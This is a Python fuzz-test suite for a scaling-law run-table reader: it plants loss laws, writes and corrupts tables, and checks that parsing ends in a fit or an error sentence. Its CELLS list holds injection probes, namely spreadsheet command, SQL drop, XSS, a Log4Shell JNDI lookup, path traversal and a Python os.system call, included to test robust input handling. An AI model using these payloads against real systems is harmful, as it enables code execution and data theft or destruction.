"""Ten thousand tables of runs, most of them broken: each ends in a fit or in one sentence, never in a traceback.

A table starts from a planted law and is written in a random style, as people, spreadsheets and loggers write. Where
nothing was broken on purpose it must be read back to the value; where something was, anything goes that is a fit or a
sentence. Warnings are errors here, so a floating-point overflow anywhere on the way fails too.
"""

from __future__ import annotations

import math
import random
import re
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scaling_core.errors import FitError, InputError
from scaling_core.fit import RunTable, fit_law, read_table
from scaling_core.laws import ChinchillaLaw
from scaling_core.units import format_quantity

TABLES = 10_000
PARTS = 20
WHOLE_FITS = 8
"""Of the tables that can be read, one in so many is fitted with five constants, the others with two, to save time."""
SMALL = {"form": "power-N", "objective": "ls-log"}

HEADERS = {
    "N": (
        "N",
        "params",
        "Model Size",
        "n_params",
        "num parameters",
        "model/num_params",
        "参数量",
        "Parameters",
        "模型参数",
    ),
    "D": ("D", "tokens", "Training Tokens", "train/tokens_seen", "n_tokens", "词元数", "令牌数", "consumed_tokens"),
    "C": ("C", "FLOPs", "Training FLOP", "compute", "total_flops", "train/total_flos", "计算量"),
    "loss": (
        "loss",
        "val_loss",
        "Validation Loss",
        "eval/loss",
        "final_loss",
        "损失",
        "验证损失",
        "L",
        "run7 - val/loss",
    ),
}
JUNK = ("hex_color", "comment", "lr", "_runtime", "备注", "git sha", "x")


@dataclass(kw_only=True)
class Draft:
    """A table on its way to bytes. columns: title and cells of each column; the rest says how it is written."""

    titles: list[str]
    columns: list[list[str]]
    separator: str
    end: str
    above: list[str] = field(default_factory=list)
    quoted: bool = False
    markdown: bool = False
    encoding: str = "utf-8"
    text: list[Callable[[str], str]] = field(default_factory=list)
    raw: list[Callable[[bytes], bytes]] = field(default_factory=list)

    @property
    def rows(self) -> list[list[str]]:
        return [list(row) for row in zip(*self.columns, strict=True)]

    def put(self, rows: list[list[str]]) -> None:
        self.columns = [list(column) for column in zip(*rows, strict=True)] or [[] for _ in self.titles]

    def cell(self, text: str) -> str:
        if self.quoted or any(mark in text for mark in (self.separator, '"', "\n", "\r")):
            return '"' + text.replace('"', '""') + '"'
        return text

    def render(self) -> bytes:
        table = [self.titles, *self.rows]
        if self.markdown:
            table.insert(1, ["---"] * len(self.titles))
            body = ["| " + " | ".join(row) + " |" for row in table]
        else:
            body = [self.separator.join(map(self.cell, row)) for row in table]
        text = self.end.join([*self.above, *body, ""])
        for change in self.text:
            text = change(text)
        data = text.encode(self.encoding, "replace")
        for last in self.raw:
            data = last(data)
        return data


def planted(rng: random.Random) -> tuple[dict[str, list[float]], int]:
    """Columns N, D, C, loss of a ladder of runs of some law, and how many."""
    law = ChinchillaLaw(
        E=rng.uniform(0.5, 2.5),
        A=10 ** rng.uniform(0, 3.5),
        B=10 ** rng.uniform(0, 3.5),
        alpha=rng.uniform(0.1, 0.7),
        beta=rng.uniform(0.1, 0.7),
    )
    n = rng.choice((6, 7, 8, 9, 10, 12, 15, 20, 24))
    first, step = rng.uniform(5, 8), rng.uniform(0.1, 0.5)
    N = [float(round(10 ** (first + step * (i % 4) + rng.uniform(0, 0.05)))) for i in range(n)]
    D = [float(round(10 ** (first + 1.3 + step * (i // 4) + rng.uniform(0, 0.05)))) for i in range(n)]
    noise = rng.choice((0.0, 0.002, 0.01))
    loss = [float(law.loss(a, b)) * math.exp(noise * rng.gauss(0, 1)) for a, b in zip(N, D, strict=True)]
    return {"N": N, "D": D, "C": [6.0 * a * b for a, b in zip(N, D, strict=True)], "loss": loss}, n


def written(rng: random.Random, values: list[float], separator: str, comma: bool, *, big: bool) -> list[str]:
    """Numbers in one of the ways in which people write them, all digits kept."""
    ways = ["plain", "exponent", "guard"]
    if big and not comma:
        ways += ["suffix", "grouped", "unit"]
    way = rng.choice(ways)
    cells = []
    for value in values:
        text = f"{value:.16e}" if way == "exponent" else repr(value)
        if way == "suffix" and value < 1e15:
            text = format_quantity(value, 17)
        elif way == "unit":
            text = f"{value!r} {rng.choice(('params', 'tokens', 'FLOP'))}"
        elif way == "grouped" and value < 1e15 and separator != ",":
            text = f"{int(value):,}" if value == int(value) else repr(value)
        elif way == "guard":
            text = "'" + text
        cells.append(text.replace(".", ",") if comma else text)
    return cells


def draft(rng: random.Random) -> tuple[Draft, dict[str, list[float]]]:
    """A sound table in a random style, and what must be read from it."""
    values, n = planted(rng)
    names = [*rng.choice((("N", "D"), ("N", "D"), ("N", "C"), ("D", "C"), ("N", "D", "C"))), "loss"]
    separator = rng.choice((",", ",", ",", ";", "\t", "|", "，"))
    comma = separator == ";" and rng.random() < 0.5
    titles, columns = [], []
    for name in names:
        titles.append(rng.choice(HEADERS[name]))
        columns.append(written(rng, values[name], separator, comma, big=name != "loss"))
    if rng.random() < 0.3:
        titles.append(rng.choice(JUNK))
        columns.append([rng.choice(("", "a b", "#fff", "0.1" if not comma else "0", "很好", "x")) for _ in range(n)])
    if rng.random() < 0.2:
        titles.append("group")
        columns.append([f"g{i % 3}" for i in range(n)])
    if rng.random() < 0.1:
        titles.append("")
        columns.append([""] * n)
    order = list(range(len(titles)))
    rng.shuffle(order)
    ascii_only = all(text.isascii() for text in [*titles, separator, *(c for column in columns for c in column)])
    made = Draft(
        titles=[titles[i] for i in order],
        columns=[columns[i] for i in order],
        separator=separator,
        end=rng.choice(("\n", "\n", "\r\n", "\r")),
        encoding=rng.choice(("utf-8", "utf-8", "utf-8", "utf-8-sig", "utf-16", *(("ascii",) if ascii_only else ()))),
        quoted=rng.random() < 0.2,
        markdown=separator == "|" and rng.random() < 0.7,
    )
    if rng.random() < 0.2:
        made.above = rng.choice((["# a comment"], ["Our runs of the year", ""], ["", "", ""], ["sep=" + separator]))
    N = values["N"] if "N" in names else [c / (6.0 * d) for c, d in zip(values["C"], values["D"], strict=True)]
    D = values["D"] if "D" in names else [c / (6.0 * a) for c, a in zip(values["C"], values["N"], strict=True)]
    return made, {"N": N, "D": D, "loss": values["loss"]}


CELLS = (
    *("", " ", "nan", "NaN", "inf", "-inf", "Infinity", "-1", "-0.0", "0", "0.0", "+3", "1e-320", "5e-324", "1e308"),
    *("1e400", "-1e308", "1e39", "1e23", "0x1F", "0b11", "1_000", "1__0", "1e", "e5", "1e5e5", "--5", "1/2", "50%"),
    *("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://x","y")', "=", "'=1", "'"),
    *("'; DROP TABLE runs;--", "1 OR 1=1", "<script>alert(1)</script>", "${jndi:ldap://x/a}", "../../etc/passwd"),
    *("%s%n", "{0.__class__}", "__import__('os').system('id')", "None", "null", "True", "[1, 2]", '{"a": 1}'),
    *("😀", "٣٫١", "١٢٣", "１２３", "七十亿", "70亿", "∞", "½", "Ⅷ", "²", "5.76 × 10²³", "10^9", "10^99999"),
    *("\u202e123", "\u200f1e9", "\u20661e9\u2069", "\ufeff3", "1\u00a0000", "1\u200b0", "\u2028", "e\u0301", "\ufffd"),
    *("9" * 300, "9" * 5000, "9" * 60 + "B", "1" + "0" * 400, "0." + "0" * 400 + "1", "x" * 100_000, "1." + "3" * 70),
    *(
        "1,2,3",
        "1;2",
        "1\t2",
        "1|2",
        "3,1",
        "1.234.567",
        "1,234.5",
        "12,34",
        '"',
        '""',
        'a"b',
        '"unclosed',
        "a\nb",
        "\r",
    ),
    *(
        "7e9",
        "70B",
        "1.4T",
        "3.1 nats",
        "5 PF-days",
        "70 billion",
        "2P",
        "3 apples",
        "\x1b[31m3\x1b[0m",
        "\x07",
        "\x7f",
    ),
    *(
        "#1",
        "# 3",
        "---",
        "N",
        "loss",
        "2024-01-01",
        "1:30",
        "€5",
        "(5)",
        "5-",
        "~3",
        "<3",
        "3*",
        "**3**",
        "\\",
        "\x00",
    ),
)
TITLES = (
    *("", "N", "loss", "params", "val_loss", "tokens", "D", "C", "train_loss", "=N", "'loss", "params_b", "tokens (T)"),
    *("params_non_embedding", "params_total", "bpb", "ppl", "se", "unique_tokens", "held_out", "tokenizer", "run"),
    *(
        "loss (bits)",
        "compute (PF-days)",
        "参数量（亿）",
        "x" * 500,
        "\u202eN",
        "😀",
        "loss\nfinal",
        "n" * 100_000,
        "1e9",
    ),
    *(
        "#",
        "predicted_loss",
        "loss_per_token",
        "c4 loss",
        "wiki loss",
        "log N",
        "N" + "\u200b",
        "Ｎ",
        "ｌｏｓｓ",
        "Loss ",
        "𝐋",
    ),
)


def any_column(rng: random.Random, table: Draft) -> int:
    return rng.randrange(len(table.columns))


def nasty_cells(rng: random.Random, table: Draft) -> None:
    column = table.columns[any_column(rng, table)]
    for _ in range(rng.choice((1, 1, 2, 5))):
        if column:
            column[rng.randrange(len(column))] = rng.choice(CELLS)


def nasty_column(rng: random.Random, table: Draft) -> None:
    place = any_column(rng, table)
    table.columns[place] = [rng.choice(CELLS)] * len(table.columns[place])


def nasty_row(rng: random.Random, table: Draft) -> None:
    rows = table.rows
    if rows:
        rows[rng.randrange(len(rows))] = [rng.choice(CELLS) for _ in table.titles]
        table.put(rows)


def nasty_title(rng: random.Random, table: Draft) -> None:
    table.titles[any_column(rng, table)] = rng.choice(TITLES)


def new_column(rng: random.Random, table: Draft) -> None:
    place, like = rng.randrange(len(table.columns) + 1), table.columns[any_column(rng, table)]
    table.titles.insert(place, rng.choice(TITLES))
    table.columns.insert(place, list(like) if rng.random() < 0.7 else [rng.choice(CELLS) for _ in like])


def copied_column(rng: random.Random, table: Draft) -> None:
    place = any_column(rng, table)
    table.titles.append(table.titles[place])
    table.columns.append(list(table.columns[place]))


def dropped_column(rng: random.Random, table: Draft) -> None:
    if len(table.columns) > 1:
        place = any_column(rng, table)
        del table.titles[place], table.columns[place]


def swapped_columns(rng: random.Random, table: Draft) -> None:
    a, b = any_column(rng, table), any_column(rng, table)
    table.columns[a], table.columns[b] = table.columns[b], table.columns[a]


def scaled_column(rng: random.Random, table: Draft) -> None:
    place, power = any_column(rng, table), rng.choice((-320, -30, -12, -6, -2, 2, 6, 9, 12, 15, 30, 300))
    number = re.compile(r"[0-9]+(?:\.[0-9]+)?")
    table.columns[place] = [f"{cell}e{power}" if number.fullmatch(cell) else cell for cell in table.columns[place]]


def constant_column(rng: random.Random, table: Draft) -> None:
    place = any_column(rng, table)
    table.columns[place] = table.columns[place][:1] * len(table.columns[place])


def nearly_constant_column(rng: random.Random, table: Draft) -> None:
    place, value = any_column(rng, table), rng.choice((1.0, 3.0, 1e9, 1e23, 1e-5))
    cells = [repr(value * (1.0 + 10 ** rng.uniform(-16, -3) * rng.random())) for _ in table.columns[place]]
    table.columns[place] = cells


def wild_column(rng: random.Random, table: Draft) -> None:
    place, low, high = any_column(rng, table), rng.choice((-320, -6, 0)), rng.choice((1, 24, 40, 308))
    table.columns[place] = [f"{10 ** rng.uniform(low, min(high, 307)):.6g}" for _ in table.columns[place]]


def two_values(rng: random.Random, table: Draft) -> None:
    place = any_column(rng, table)
    table.columns[place] = [rng.choice(("1e6", "1e7", "3", "2.5")) for _ in table.columns[place]]


def few_rows(rng: random.Random, table: Draft) -> None:
    table.put(table.rows[: rng.choice((0, 0, 1, 1, 2, 3, 5, 6))])


def repeated_rows(rng: random.Random, table: Draft) -> None:
    rows = table.rows
    if rows:
        table.put(rows * rng.choice((2, 3)) if rng.random() < 0.5 else [rows[0]] * len(rows))


def shuffled_rows(rng: random.Random, table: Draft) -> None:
    rows = table.rows
    rng.shuffle(rows)
    table.put(rows)


def repeated_header(rng: random.Random, table: Draft) -> None:
    rows = table.rows
    rows.insert(rng.randrange(len(rows) + 1), list(table.titles))
    table.put(rows)


def on_lines(change: Callable[[random.Random, str], str], rng: random.Random, table: Draft, share: float) -> None:
    end = table.end

    def apply(text: str) -> str:
        return end.join(change(rng, line) if rng.random() < share else line for line in text.split(end))

    table.text.append(apply)


def ragged(rng: random.Random, table: Draft) -> None:
    mark = table.separator

    def cut(rng: random.Random, line: str) -> str:
        parts = line.split(mark)
        return mark.join(parts[:-1] if rng.random() < 0.5 else [*parts, rng.choice(("", "7", "x"))])

    on_lines(cut, rng, table, rng.choice((0.1, 0.9)))


def other_separators(rng: random.Random, table: Draft) -> None:
    mark = table.separator
    on_lines(lambda rng, line: line.replace(mark, rng.choice(",;\t| ")), rng, table, rng.choice((0.1, 1.0)))


def junk_lines(rng: random.Random, table: Draft) -> None:
    on_lines(lambda rng, line: rng.choice(CELLS) + table.end + line, rng, table, 0.1)


def mixed_ends(rng: random.Random, table: Draft) -> None:
    end = table.end
    table.text.append(lambda text: "".join(rng.choice(("\n", "\r", "\r\n")) if c == end[-1] else c for c in text))


def torn(rng: random.Random, table: Draft) -> None:
    table.text.append(lambda text: text[: rng.randrange(len(text) + 1)])


def headless(rng: random.Random, table: Draft) -> None:
    table.text.append(lambda text: text.partition(table.end)[2])


def stray_quote(rng: random.Random, table: Draft) -> None:
    def insert(text: str) -> str:
        place = rng.randrange(len(text) + 1)
        return text[:place] + '"' + text[place:]

    table.text.append(insert)


def upper(rng: random.Random, table: Draft) -> None:
    table.text.append(str.upper)


def other_encoding(rng: random.Random, table: Draft) -> None:
    table.encoding = rng.choice(
        ("latin-1", "gb18030", "utf-16-le", "utf-16-be", "utf-32", "cp1252", "shift_jis", "utf-7")
    )


def flipped_bytes(rng: random.Random, table: Draft) -> None:
    def flip(data: bytes) -> bytes:
        changed = bytearray(data)
        for _ in range(rng.choice((1, 1, 3, 20))):
            if changed:
                changed[rng.randrange(len(changed))] = rng.randrange(256)
        return bytes(changed)

    table.raw.append(flip)


def inserted_bytes(rng: random.Random, table: Draft) -> None:
    def insert(data: bytes) -> bytes:
        place = rng.randrange(len(data) + 1)
        return (
            data[:place] + rng.choice((b"\x00", b"\xff\xfe", b"\xef\xbb\xbf", rng.randbytes(8), b"\x1a")) + data[place:]
        )

    table.raw.append(insert)


def other_file(rng: random.Random, table: Draft) -> None:
    start = rng.choice(
        (b"", b"PK\x03\x04", b"\x1f\x8b", b"PAR1", b"\xef\xbb\xbf", b"\xff\xfe", b"[", b"{", b"%PDF-1.7\n")
    )
    table.raw.append(lambda data: start + rng.randbytes(rng.choice((0, 1, 2, 50, 2000))))


def cut_bytes(rng: random.Random, table: Draft) -> None:
    table.raw.append(lambda data: data[rng.choice((0, 1, 2, 3)) : rng.randrange(len(data) + 1)])


MUTATIONS: tuple[Callable[[random.Random, Draft], None], ...] = (
    *(nasty_cells, nasty_cells, nasty_column, nasty_row, nasty_title, new_column, copied_column, dropped_column),
    *(swapped_columns, scaled_column, constant_column, nearly_constant_column, wild_column, wild_column, two_values),
    *(few_rows, repeated_rows, shuffled_rows, repeated_header, ragged, other_separators, junk_lines, mixed_ends, torn),
    *(headless, stray_quote, upper, other_encoding, flipped_bytes, inserted_bytes, other_file, cut_bytes),
)


def assert_sentence(text: str) -> None:
    """One line that ends like a sentence and can be read at once, with nothing in it that a terminal would obey."""
    assert 10 < len(text) < 400, text
    assert text.endswith("."), text
    assert "Traceback" not in text
    assert text.isprintable(), repr(text)


def assert_sound(table: RunTable) -> None:
    """What holds for every table that was read."""
    points = table.points
    n = len(points)
    assert n > 0
    for values in (points.N, points.D, points.loss, points.se, points.unique):
        assert values is None or (values.shape == (n,) and bool(np.all(np.isfinite(values) & (values > 0))))
    for labels in (points.group, points.tokenizer, points.label):
        assert labels is None or (len(labels) == n and all(len(label) <= 200 for label in labels))
    assert table.held_out is None or table.held_out.shape == (n,)
    assert table.lines.shape == (n,)
    assert bool(np.all(np.diff(table.lines) > 0))
    assert {"loss"} < set(table.columns)
    assert table.skipped_count >= len(table.skipped)
    for note in (*table.notes, *(reason for _, reason in table.skipped)):
        assert_sentence(note)


def outcome(source: bytes | str, how: dict[str, Any], **options: Any) -> tuple[str, RunTable | None]:
    """How a source ends: fit, unfit (FitError) or refused (InputError), with the table where it was read."""
    try:
        table = read_table(source, **options)
    except InputError as error:
        assert_sentence(str(error))
        return "refused", None
    assert_sound(table)
    try:
        result = fit_law(table.fitted, bootstrap=0, **how)
    except (FitError, InputError) as error:
        assert_sentence(str(error))
        return "unfit", table
    assert all(math.isfinite(value) for value in result.constants.values()), result.constants
    assert bool(np.isfinite(result.residuals).all())
    assert math.isfinite(result.value)
    for warning in result.warnings:
        assert_sentence(warning)
    return "fit", table


def one(seed: int) -> tuple[str, list[str]]:
    """Make, break, read and fit the table of a seed; how it ended and how it was broken."""
    rng = random.Random(seed)
    made, expected = draft(rng)
    broken = [rng.choice(MUTATIONS) for _ in range(rng.choice((0, 1, 1, 1, 2, 2, 2, 3, 3, 4, 4)))]
    for mutation in broken:
        mutation(rng, made)
    data = made.render()
    how: dict[str, Any] = {}
    if seed % WHOLE_FITS:
        how = {"form": f"power-{rng.choice('NDC')}", "objective": rng.choice(("huber-log", "ls-log", "ls-log", "ls"))}
    else:
        how = {"form": rng.choice(("chinchilla", "chinchilla", "kaplan", "gadre"))}
    options: dict[str, Any] = {"skip_bad": rng.random() < 0.5}
    if rng.random() < 0.05:
        options["count"] = rng.choice(("params", "params_total", "params_non_embedding", "", "loss"))
    if rng.random() < 0.05:
        options["mapping"] = {
            rng.choice(("N", "D", "C", "loss", "se", "group", "Q")): rng.choice(("", *made.titles, "?"))
        }
    ended, table = outcome(data, how, **options)
    if not broken and len(options) == 1:
        assert table is not None, f"a sound table was refused: {data[:300]!r}"
        for name, values in expected.items():
            np.testing.assert_allclose(getattr(table.points, name), values, rtol=1e-14, err_msg=name)
        assert table.skipped_count == 0
    return ended, [mutation.__name__ for mutation in broken]


@pytest.mark.slow
@pytest.mark.parametrize("part", range(PARTS))
def test_ten_thousand_tables_end_in_a_fit_or_in_a_sentence(part: int) -> None:
    size = TABLES // PARTS
    ends: Counter[str] = Counter()
    for seed in range(part * size, (part + 1) * size):
        try:
            ended, _ = one(seed)
        except Exception as error:
            raise AssertionError(f"the table of seed {seed} ended in {error!r}") from error
        ends[ended] += 1
    # Tables that are all refused, or all fine, would prove nothing.
    assert min(ends[name] for name in ("fit", "unfit", "refused")) > size // 40, ends


def test_every_way_to_break_a_table_breaks_some_and_spares_some() -> None:
    """Each mutation leaves a table that differs, so that none of them is a mutation in name only."""
    for mutation in set(MUTATIONS):
        changed = 0
        for seed in range(12):
            rng = random.Random(seed)
            made, _ = draft(rng)
            before = made.render()
            mutation(rng, made)
            changed += made.render() != before
        assert changed >= 3, mutation.__name__


counts = st.floats(0.0, 24.0).map(lambda p: 10.0**p)
losses = st.floats(-6.0, 6.0).map(lambda p: 10.0**p)
few = settings(max_examples=150, deadline=None)


@few
@given(
    rows=st.lists(st.tuples(counts, counts, losses), min_size=1, max_size=6),
    separator=st.sampled_from([",", ";", "\t", "|", " ", "，"]),
    comma=st.booleans(),
)
def test_any_number_is_read_back_to_the_bit(
    rows: list[tuple[float, float, float]], separator: str, comma: bool
) -> None:
    text = "\n".join(separator.join(map(repr, row)) for row in rows)
    if comma and separator != ",":
        text = text.replace(".", ",")
    table = read_table(f"N{separator}D{separator}loss\n{text}\n")
    points = table.points
    assert list(zip(points.N.tolist(), points.D.tolist(), points.loss.tolist(), strict=True)) == rows
    assert table.lines.tolist() == list(range(2, len(rows) + 2))


@few
@given(values=st.lists(counts, min_size=1, max_size=6))
def test_a_quantity_with_a_suffix_is_read_back_to_the_bit(values: list[float]) -> None:
    rows = "".join(f"{format_quantity(value, 17)}\t1e9\t3\n" for value in values)
    assert read_table(f"params\ttokens\tloss\n{rows}").points.N.tolist() == values


@few
@given(junk=st.one_of(st.binary(max_size=300), st.text(max_size=200)), header=st.booleans())
def test_anything_at_all_ends_in_points_or_in_a_sentence(junk: bytes | str, header: bool) -> None:
    if isinstance(junk, str):
        ended, _ = outcome(("N,D,loss\n" if header else "") + junk, SMALL)
    else:
        ended, _ = outcome((b"N,D,loss\n" if header else b"") + junk, SMALL)
    assert ended in ("fit", "unfit", "refused")


@few
@given(
    titles=st.lists(
        st.sampled_from([*TITLES, *JUNK, *(title for names in HEADERS.values() for title in names)]), max_size=9
    ),
    cells=st.lists(st.sampled_from(CELLS), min_size=9, max_size=9),
    skip_bad=st.booleans(),
)
def test_any_header_over_any_cells(titles: list[str], cells: list[str], skip_bad: bool) -> None:
    outcome("\t".join(titles) + "\n" + "\t".join(cells) + "\n", SMALL, skip_bad=skip_bad)
